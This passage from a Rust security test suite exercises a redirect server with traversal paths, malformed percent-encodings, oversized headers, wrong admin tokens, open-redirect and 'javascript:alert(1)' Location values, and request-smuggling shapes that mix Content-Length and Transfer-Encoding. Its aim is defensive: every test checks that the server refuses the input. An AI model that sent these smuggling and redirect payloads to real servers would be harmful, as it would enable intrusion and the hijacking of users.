        format!("/cart.{}%{:02X}", &sig[..15], sig.as_bytes()[15]).into_bytes(),
        format!("/%2e%2e/cart.{sig}").into_bytes(),
        format!("/..%2Fcart.{sig}").into_bytes(),
        format!("/cart.{sig}/%2e%2e").into_bytes(),
        format!("/cart.{sig};x=1").into_bytes(),
        [b"/".as_slice(), "\u{560a}\u{560d}".as_bytes()].concat(),
        [format!("/cart.{}", &sig[..14]).as_bytes(), "\u{e9}".as_bytes()].concat(),
        format!("/{}", "%41".repeat(4900)).into_bytes(),
    ];
    for p in &paths {
        let r = send_target(s.public, p, b"").unwrap_or_else(|e| panic!("{:?}: {e}", String::from_utf8_lossy(p)));
        assert!(
            matches!(r.status, 400 | 404),
            "{:?}: {} {:?}",
            String::from_utf8_lossy(p),
            r.status,
            r.header("location")
        );
    }
    // Queries on a valid token: the correct redirect, with what can be decoded forwarded.
    let mut queries: Vec<String> = [
        "%",
        "%%",
        "%G1",
        "sub=%",
        "sub=%G1",
        "sub=%C3%28",
        "sub=%C0%AF",
        "sub=%00",
        "sub=+",
        "fbclid=%",
        "fbclid=%G1",
        "fbclid=%C3%28",
        "fbclid=%C0%AF",
        "fbclid=%00",
        "fbclid=+",
        "fbclid=%2",
        "fbclid=%%32%30",
        "fbclid=%ED%A0%80",
        "fbclid=%F4%90%80%80",
        "fbclid=%FF%FE",
        "fbclid=%EF%BB%BF",
        "%66bclid=encoded-key",
        "fbclid%3Dsmuggled=1",
        "fbclid",
        "fbclid=",
        "=fbclid",
        "&&&",
        "=&=&=",
        ";fbclid=semi",
        "fbclid=a&fbclid=b",
        "fbclid=&fbclid=second",
        "sub=a&sub=b",
        "gclid=1&gclid=2&gclid=3&utm_term=x&utm_term=y",
        "utm_source=a&utm_source=b",
        "discount=FREE&discount=FREE2&ref=x&ref=y",
        "attributes%5Bcl_click%5D=a&attributes[cl_click]=b",
        "FBCLID=upper",
        "fbclid+=space",
        "fbclid%00=nul",
        "fbclid=\u{e9}t\u{e9}",
        "\u{560a}=\u{560d}",
    ]
    .into_iter()
    .map(str::to_string)
    .collect();
    queries.push(format!("fbclid={}", "a".repeat(200)));
    queries.push(format!("fbclid={}", "a".repeat(201)));
    queries.push(format!("fbclid={}", "%C3%A9".repeat(100)));
    queries.push(format!("fbclid={}&fbclid=short", "%C3%A9".repeat(101)));
    queries.push(format!("sub={}", "a".repeat(10_000)));
    queries.push(format!("fbclid={}", "%".repeat(150)));
    // ~13 KiB: under the 16 KiB request-head limit, so a full redirect.
    queries.push(format!("fbclid=first&{}", "fbclid=dup&".repeat(1_200)));
    queries.push(format!("{}&gclid=last", "x=%G1&".repeat(2_000)));
    let mut total = 0;
    for q in &queries {
        for (link, base) in [(cart, cart_base), (disc, disc_base)] {
            total += 1;
            let target = format!("{}?{q}", path_for(link.id));
            let r = send_target(s.public, target.as_bytes(), b"").unwrap_or_else(|e| panic!("{q:?}: {e}"));
            if let Err(e) = check_human_redirect(link, base, Some(q), &r) {
                panic!("{} ?{}: {e}", link.id, &q[..q.len().min(200)]);
            }
        }
    }
    // Duplicates: the first forwardable value wins, link-owned params never change.
    let r = send_target(
        s.public,
        format!("{good}?fbclid=a&fbclid=b&discount=X&ref=y").as_bytes(),
        b"",
    )
    .unwrap();
    let loc = r.location();
    assert!(loc.contains("&fbclid=a") && !loc.contains("fbclid=b"), "{loc}");
    assert!(
        loc.contains("discount=JANE15&ref=jane&") && !loc.contains("discount=X"),
        "{loc}"
    );
    // A query past the request-line limit: 414, never 431 or a 5xx.
    for len in [15_000, 64 * 1024, 70_000, 200_000] {
        total += 1;
        let target = format!("{good}?fbclid={}", "a".repeat(len));
        let r = send_target(s.public, target.as_bytes(), b"").unwrap();
        assert_eq!(r.status, 414, "{len}-byte query");
    }
    // Raw (unencoded) invalid UTF-8: refused by hyper.
    for bad in [&b"\xc3\x28"[..], b"\xc0\xaf", b"\xff", b"\xed\xa0\x80", b"%\xff"] {
        total += 1;
        let r = send_target(s.public, &[good.as_bytes(), b"?fbclid=", bad].concat(), b"").unwrap();
        assert_eq!(r.status, 400, "{bad:?}");
    }
    eprintln!("malformed: {total} cases");
    assert!(alive(&mut s), "server alive after malformed input");
    let r = s.get(&good, &[("User-Agent", IPHONE)]);
    check_human_redirect(cart, cart_base, None, &r).unwrap();
    assert_no_panic(&s);
}

/// Sends `extra` header lines on a valid link; the status, or `None` when hyper closed the
/// connection without an answer.
fn with_headers(s: &Server, extra: &[u8]) -> Option<u16> {
    let mut req = format!(
        "GET {} HTTP/1.1\r\nHost: t\r\nUser-Agent: {IPHONE}\r\n",
        path_for("cart")
    )
    .into_bytes();
    req.extend_from_slice(extra);
    req.extend_from_slice(b"Connection: close\r\n\r\n");
    let raw = raw_exchange(s.public, &req).ok()?;
    if raw.is_empty() {
        return None;
    }
    status_of(&raw)
}

fn many(n: usize, name: &str, value: &str) -> Vec<u8> {
    (0..n)
        .map(|i| format!("{name}{i}: {value}\r\n"))
        .collect::<String>()
        .into_bytes()
}

#[test]
fn oversized_and_numerous_headers_get_431_never_5xx() {
    let mut s = start("adv-headers", &[]);
    // Host, User-Agent and Connection are 3 of the 64 allowed.
    assert_eq!(with_headers(&s, &many(61, "X-H", "v")), Some(302), "64 headers fit");
    for (what, extra) in [
        ("65 headers", many(62, "X-H", "v")),
        ("200 headers", many(200, "X-H", "v")),
        ("2,000 headers", many(2000, "X-H", "v")),
        ("200 cookies", many(200, "Cookie", "a=b")),
        (
            "500 KiB header",
            format!("X-Big: {}\r\n", "a".repeat(500 * 1024)).into_bytes(),
        ),
        ("1 MiB over 40 headers", many(40, "X-Big", &"b".repeat(26 * 1024))),
    ] {
        let st = with_headers(&s, &extra);
        assert!(matches!(st, Some(431) | None), "{what}: {st:?}");
        assert!(alive(&mut s), "alive after {what}");
    }
    // Large but under every limit hyper enforces: answered normally, never 5xx.
    for (what, extra) in [
        ("60 small cookies", many(60, "Cookie", "cl_att=x")),
        (
            "8 KiB cookie",
            format!("Cookie: cl_att={}\r\n", "A".repeat(8 * 1024)).into_bytes(),
        ),
    ] {
        let st = with_headers(&s, &extra);
        assert!(matches!(st, Some(302)), "{what}: {st:?}");
    }
    assert_no_panic(&s);
}

/// The fault matrix asks for 431 on a 16 KiB single header and a 64 KiB Cookie
/// ("Oversized headers / URI": 100 % correct status 431/414/400).
#[test]
fn sixteen_kib_header_and_sixty_four_kib_cookie_get_431() {
    let mut s = start("adv-headers-size", &[]);
    for (what, extra) in [
        (
            "16 KiB header",
            format!("X-Big: {}\r\n", "a".repeat(16 * 1024)).into_bytes(),
        ),
        (
            "64 KiB Cookie",
            format!("Cookie: cl_att={}\r\n", "A".repeat(64 * 1024)).into_bytes(),
        ),
        (
            "32 KiB Referer",
            format!("Referer: https://e.example/{}\r\n", "r".repeat(32 * 1024)).into_bytes(),
        ),
    ] {
        let st = with_headers(&s, &extra);
        assert!(matches!(st, Some(431) | None), "{what}: {st:?}");
    }
    assert!(alive(&mut s));
}

fn admin_call(s: &Server, method: &str, path: &str, auth: Option<&[u8]>, body: &[u8]) -> Vec<u8> {
    let mut req = format!("{method} {path} HTTP/1.1\r\nHost: t\r\nConnection: close\r\n").into_bytes();
    if let Some(a) = auth {
        req.extend_from_slice(b"Authorization: ");
        req.extend_from_slice(a);
        req.extend_from_slice(b"\r\n");
    }
    req.extend_from_slice(format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes());
    req.extend_from_slice(body);
    raw_exchange(s.admin, &req).unwrap()
}

#[test]
fn admin_api_refuses_every_wrong_token_and_reloads_nothing() {
    let mut s = start("adv-admin", &[]);
    let series = |s: &Server| {
        (
            s.metric("cartlink_config_generation"),
            s.metric("cartlink_config_reload_failures_total"),
            s.metric("cartlink_links_loaded"),
        )
    };
    let before = series(&s);
    assert_eq!(before.0, 1.0);
    let t = ADMIN_TOKEN;
    let flip = |i: usize| {
        let mut b = t.as_bytes().to_vec();
        b[i] = if b[i] == b'a' { b'b' } else { b'a' };
        String::from_utf8(b).unwrap()
    };
    let basic = {
        use base64::Engine;
        format!(
            "Basic {}",
            base64::engine::general_purpose::STANDARD.encode(format!("admin:{t}"))
        )
    };
    let auths: Vec<Option<String>> = vec![
        None,
        Some(String::new()),
        Some("Bearer".into()),
        Some("Bearer ".into()),
        Some("Bearer wrong-token-wrong-token".into()),
        Some(format!("Bearer {}", t.to_uppercase())),
        Some(format!("Bearer {}", flip(0))),
        Some(format!("Bearer {}", flip(t.len() - 1))),
        Some(format!("Bearer {}", &t[..t.len() - 1])),
        Some(format!("Bearer {}", &t[1..])),
        Some(format!("Bearer {t}x")),
        Some(format!("Bearer {t}{t}")),
        Some(format!("Bearer  {t}")),
        Some(format!("Bearer{t}")),
        Some(t.to_string()),
        Some(format!("Token {t}")),
        Some(format!("Bearer: {t}")),
        Some(format!("Bearer \"{t}\"")),
        Some(basic),
        Some(format!("Bearer {}", "A".repeat(8192))),
        Some(format!("Bearer {t},Bearer {t}")),
    ];
    let replacement =
        b"{\"id\":\"evil\",\"creator\":\"m\",\"campaign\":\"m\",\"target\":{\"type\":\"url\",\"url\":\"https://evil.example/\"}}\n";
    let mut n = 0;
    for auth in &auths {
        for (method, path, body) in [
            ("POST", "/admin/reload", &b""[..]),
            ("PUT", "/admin/links", &replacement[..]),
            ("GET", "/admin/links/cart", &b""[..]),
            ("POST", "/admin/reload?token=test-admin-token-0123456789", &b""[..]),
            ("POST", "/admin/reload/", &b""[..]),
            ("POST", "/admin//reload", &b""[..]),
        ] {
            n += 1;
            let raw = admin_call(&s, method, path, auth.as_deref().map(str::as_bytes), body);
            let r = parse_response(raw, false);
            assert_eq!(r.status, 401, "{method} {path} with {auth:?}: {}", r.body_text());
            assert_eq!(r.header("www-authenticate"), Some("Bearer"));
        }
    }
    // Path spellings outside `/admin/` are simply unknown.
    for path in ["/ADMIN/reload", "/%61dmin/reload", "/admin%2Freload", "//admin/reload"] {
        let r = parse_response(admin_call(&s, "POST", path, None, b""), false);
        assert!(matches!(r.status, 401 | 404), "{path}: {}", r.status);
    }
    // The token in the query string or a cookie is no token at all.
    let r = parse_response(
        raw_exchange(
            s.admin,
            format!("POST /admin/reload HTTP/1.1\r\nHost: t\r\nCookie: token={t}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").as_bytes(),
        )
        .unwrap(),
        false,
    );
    assert_eq!(r.status, 401);
    // A raw NUL in the header is refused before the admin code sees it.
    let raw = admin_call(
        &s,
        "POST",
        "/admin/reload",
        Some(format!("Bearer {t}\0").as_bytes()),
        b"",
    );
    assert_eq!(status_of(&raw), Some(400));
    // The public listener has no admin API.
    assert_eq!(
        request(
            s.public,
            "POST",
            "/admin/reload",
            &[("Authorization", &format!("Bearer {t}"))],
            b""
        )
        .status,
        405
    );
    assert_eq!(
        request(
            s.public,
            "GET",
            "/admin/links/cart",
            &[("Authorization", &format!("Bearer {t}"))],
            b""
        )
        .status,
        404
    );

    assert_eq!(series(&s), before, "nothing reloaded after {n} refused calls");
    let r = s.get(&path_for("cart"), &[("User-Agent", IPHONE)]);
    assert_eq!(r.status, 302);
    assert!(r.location().starts_with("https://shop.example/"), "table unchanged");
    assert_eq!(s.get(&path_for("evil"), &[("User-Agent", IPHONE)]).status, 404);
    assert_eq!(
        std::fs::read_to_string(s.dir.join("links.jsonl")).unwrap(),
        LINKS,
        "links file untouched"
    );
    // Anti-vacuity: the right token does reload and the metric moves.
    let ok = s.admin("POST", "/admin/reload", b"");
    assert_eq!(ok.status, 200, "{}", ok.body_text());
    assert_eq!(s.metric("cartlink_config_generation"), 2.0);
    assert!(alive(&mut s));
    assert_no_panic(&s);
}

/// The oracle itself must catch what it is there for (anti-vacuity): every doctored Location
/// below is refused, the genuine one accepted.
#[test]
fn the_location_oracle_refuses_doctored_answers() {
    let resp = |status: u16, loc: &str| {
        parse_response(
            format!("HTTP/1.1 {status} Found\r\nlocation: {loc}\r\ncontent-length: 0\r\n\r\n").into_bytes(),
            false,
        )
    };
    let id = "01a21b2a-a6ae-7610-925d-12f57f08ca53";
    let cart = spec("cart", "shop.example", 302, ExtrasMode::Query, &[]);
    let cart_head = "https://shop.example/cart/1:1?discount=JANE15&ref=jane&attributes%5Bcl_click%5D=";
    let cart_base = Baseline {
        head: cart_head.into(),
        tail: String::new(),
    };
    let ok = format!("{cart_head}{id}&fbclid=%2F%2Fevil.example");
    check_human_redirect(&cart, &cart_base, Some("fbclid=//evil.example"), &resp(302, &ok)).unwrap();
    let doctored = [
        (
            302,
            format!("https://evil.example/cart/1:1?discount=JANE15&ref=jane&attributes%5Bcl_click%5D={id}"),
        ),
        (
            302,
            format!("http://shop.example/cart/1:1?discount=JANE15&ref=jane&attributes%5Bcl_click%5D={id}"),
        ),
        (
            302,
            format!("https://shop.example@evil.example/?attributes%5Bcl_click%5D={id}"),
        ),
        (
            302,
            format!("https://shop.example:8443/cart/1:1?discount=JANE15&ref=jane&attributes%5Bcl_click%5D={id}"),
        ),
        (302, format!("{cart_head}{id}&fbclid=//evil.example")),
        (302, format!("{cart_head}{id}&discount=FREE")),
        (302, format!("{cart_head}{id}&fbclid=%2F%2Fevil.example&fbclid=x")),
        (302, format!("{cart_head}{id}")),
        (302, format!("{cart_head}{id}&fbclid=javascript:alert(1)")),
        (
            302,
            format!("{cart_head}not-a-uuid-not-a-uuid-not-a-uuid-xxxx&fbclid=%2F%2Fevil.example"),
        ),
        (301, ok.clone()),
        (302, "javascript:alert(1)".into()),
        (302, "//evil.example".into()),
    ];
    for (status, loc) in &doctored {
        assert!(
            check_human_redirect(&cart, &cart_base, Some("fbclid=//evil.example"), &resp(*status, loc)).is_err(),
            "oracle accepted {status} {loc}"
        );
    }
    let disc = spec("shop-disc", "brand.example", 302, ExtrasMode::Nested, &[]);
    let disc_head = "https://brand.example/discount/C?redirect=%2Fp%3Fcl_click%3D";
    let disc_base = Baseline {
        head: disc_head.into(),
        tail: "%23top".into(),
    };
    let good = format!("{disc_head}{id}%26fbclid%3D%252F%252Fe%23top");
    check_human_redirect(&disc, &disc_base, Some("fbclid=//e"), &resp(302, &good)).unwrap();
    for loc in [
        format!("https://brand.example/discount/C?redirect=%2F%2Fevil.example%3Fcl_click%3D{id}"),
        format!("https://brand.example/discount/C?redirect=%2F%5Cevil.example%3Fcl_click%3D{id}"),
        format!("https://brand.example/discount/C?redirect=https%3A%2F%2Fevil.example%3Fcl_click%3D{id}"),
        format!("https://brand.example/discount/C?redirect=javascript%3Aalert(1)%3Fcl_click%3D{id}"),
        format!("{disc_head}{id}%26fbclid%3D%2F%2Fe%23top"),
        format!("{disc_head}{id}&fbclid=%2F%2Fe%23top"),
        format!("{disc_head}{id}%26redirect%3D%252F%252Fe%23top"),
        format!("{disc_head}{id}%26fbclid%3D%252F%252Fe%23top&redirect=%2F%2Fevil.example"),
    ] {
        assert!(
            check_human_redirect(&disc, &disc_base, Some("fbclid=//e"), &resp(302, &loc)).is_err(),
            "oracle accepted {loc}"
        );
    }
}

/// Other methods get 405 with no redirect; request-smuggling shapes get one answer or hyper's
/// 400, never a 5xx and never a second, smuggled answer on a connection asked to close.
#[test]
fn other_methods_and_smuggling_shapes_never_5xx() {
    let mut s = start("adv-methods", &[]);
    let path = path_for("cart");
    for m in ["POST", "PUT", "DELETE", "OPTIONS", "TRACE", "PATCH", "PROPFIND", "BREW"] {
        let req = format!(
            "{m} {path}?fbclid=x HTTP/1.1\r\nHost: t\r\nUser-Agent: {IPHONE}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        );
        let raw = raw_exchange(s.public, req.as_bytes()).unwrap();
        let (status, names) = raw_head(&raw).unwrap_or_else(|e| panic!("{m}: {e}"));
        assert_eq!(status, 405, "{m}");
        assert!(
            !names.iter().any(|n| n == "location" || n == "set-cookie"),
            "{m}: {names:?}"
        );
    }
    let smuggled = "GET /admin/reload HTTP/1.1\r\nHost: t\r\n\r\n";
    let shapes = [
        format!("GET {path} HTTP/1.1\r\nHost: t\r\nUser-Agent: {IPHONE}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{smuggled}", smuggled.len()),
        format!("GET {path} HTTP/1.1\r\nHost: t\r\nUser-Agent: {IPHONE}\r\nConnection: close\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"),
        format!("GET {path} HTTP/1.1\r\nHost: t\r\nUser-Agent: {IPHONE}\r\nConnection: close\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\n{smuggled}"),
        format!("GET {path} HTTP/1.1\r\nHost: t\r\nUser-Agent: {IPHONE}\r\nConnection: close\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{smuggled}"),
        format!("GET {path} HTTP/1.1\r\nHost: t\r\nUser-Agent: {IPHONE}\r\nConnection: close\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n{smuggled}"),
    ];
    for req in &shapes {
        let raw = raw_exchange(s.public, req.as_bytes()).unwrap();
        let text = String::from_utf8_lossy(&raw);
        assert_eq!(
            text.matches("HTTP/1.1 ").count(),
            1,
            "exactly one answer to {req:?}: {text}"
        );
        let status = status_of(&raw).unwrap();
        assert!(matches!(status, 302 | 400), "{req:?}: {text}");
    }
    assert!(alive(&mut s));
    assert_no_panic(&s);
}

/// Resident memory of a process, in KiB (`VmRSS` in /proc).
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

/// The fault matrix's "Oversized headers / URI" row in volume: 2,000 requests of each kind
/// (200 headers, a 64 KiB Cookie, a 16 KiB header, a 70,000-byte URI) get 431 or 414, never a
/// 5xx, and the server's memory does not grow by more than 20 MB over them.
#[test]
fn eight_thousand_oversized_heads_are_refused_without_growing_memory() {
    let mut s = start("adv-oversized-volume", &[]);
    let link = path_for("cart");
    let head =
        |extra: &str, target: &str| format!("GET {target} HTTP/1.1\r\nHost: t\r\n{extra}Connection: close\r\n\r\n");
    let kinds = [
        (
            "200 headers",
            head(&String::from_utf8(many(200, "X-H", "v")).unwrap(), &link),
            431,
        ),
        (
            "64 KiB Cookie",
            head(&format!("Cookie: cl_att={}\r\n", "A".repeat(64 << 10)), &link),
            431,
        ),
        (
            "16 KiB header",
            head(&format!("X-Big: {}\r\n", "a".repeat(16 << 10)), &link),
            431,
        ),
        (
            "70,000-byte URI",
            head("", &format!("{link}?fbclid={}", "a".repeat(70_000))),
            414,
        ),
    ];
    // Warm up (the first connections size the runtime's buffers), then measure.
    for (_, req, _) in &kinds {
        let _ = raw_exchange(s.public, req.as_bytes());
    }
    let pid = s.child.id();
    let before = rss_kib(pid);
    let mut unanswered = 0;
    for (what, req, want) in &kinds {
        for _ in 0..2000 {
            let raw = raw_exchange(s.public, req.as_bytes()).unwrap();
            if raw.is_empty() {
                unanswered += 1;
                continue;
            }
            assert_eq!(status_of(&raw), Some(*want), "{what}");
        }
    }
    // hyper may close a head it refuses before its answer is read (a reset), rarely.
    assert!(unanswered <= 80, "{unanswered} of 8,000 closed without an answer");
    let grown = rss_kib(pid).saturating_sub(before);
    assert!(grown <= 20 << 10, "RSS grew by {grown} KiB over 8,000 oversized heads");
    eprintln!("oversized heads: 8,000 refused ({unanswered} closed unanswered), RSS grew by {grown} KiB");
    assert!(alive(&mut s));
    assert_no_panic(&s);
}
